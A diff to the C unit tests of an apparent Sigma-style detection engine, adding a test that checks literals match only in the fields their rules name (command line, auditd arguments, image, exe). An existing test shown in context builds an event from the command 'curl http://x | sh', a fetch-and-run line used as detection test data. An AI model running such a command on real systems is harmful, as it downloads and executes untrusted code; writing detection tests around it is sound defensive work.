@@ -360,6 +360,44 @@ static int fires(const char *rule, const struct hn_event *ev,
 	return n;
 }
 
+/*
+ * The literal prefilter counts a literal only in the fields its rule
+ * names, and an exec's arguments (auditd a0, a1...) are searched as part
+ * of the command line: a rule on a0/a1 must still fire when a
+ * process_creation rule puts the command line in the search, and a rule on
+ * Image when its literal is only in the path as passed to execve.
+ */
+static void test_literals_count_in_their_fields(void **state)
+{
+	static const char *const argv[] = { "uname", "-a", NULL };
+	const char *rules =
+		"title: cmdline\nid: 1\nlogsource:\n  product: linux\n  category: process_creation\n"
+		"detection:\n  s:\n    CommandLine|contains: zzqq\n  condition: s\n"
+		"---\ntitle: args\nid: 2\nlogsource:\n  product: linux\n  service: auditd\n"
+		"detection:\n  s:\n    type: EXECVE\n    a0: uname\n    a1: '-a'\n  condition: s\n"
+		"---\ntitle: alt\nid: 3\nlogsource:\n  product: linux\n  category: process_creation\n"
+		"detection:\n  s:\n    Image|contains: 'opt/kit/run'\n  condition: s\n"
+		"---\ntitle: exe\nid: 4\nlogsource:\n  product: linux\n  service: auditd\n"
+		"detection:\n  s:\n    type: SYSCALL\n    exe|startswith: '/opt/kit/'\n  condition: s\n";
+	struct problems ps;
+	struct hn_ruleset *rs;
+	struct hn_event *ev;
+	int n = 0;
+
+	(void)state;
+	rs = load_text(rules, &ps);
+	assert_int_equal(ps.n, 0);
+	assert_int_equal(hn_ruleset_count(rs), 4);
+	/* the real binary elsewhere, run as ./run from /opt/kit: "opt/kit/run"
+	 * is only in Image's second value; "/opt/kit/" in the working
+	 * directory and that value, never in exe */
+	ev = mk_exec("/usr/lib/kit/real", "./run", "/opt/kit", argv);
+	assert_int_equal(hn_ruleset_match(rs, ev, NULL, count_fired, &n), 2);
+	assert_int_equal(n, 2);   /* args and alt; not cmdline, not exe */
+	hn_event_free(ev);
+	hn_ruleset_free(rs);
+}
+
 static void test_process_creation_fields(void **state)
 {
 	static const char *const argv[] = { "sh", "-c", "curl http://x | sh", NULL };
@@ -943,6 +981,8 @@ int main(void)
 		cmocka_unit_test_setup_teardown(test_rule_problems_have_lines, th_tmp_setup,
 						th_tmp_teardown),
 		cmocka_unit_test_setup_teardown(test_load_directory_and_documents, th_tmp_setup,
+						th_tmp_teardown),
+		cmocka_unit_test_setup_teardown(test_literals_count_in_their_fields, th_tmp_setup,
 						th_tmp_teardown),
 		cmocka_unit_test_setup_teardown(test_process_creation_fields, th_tmp_setup,
 						th_tmp_teardown),
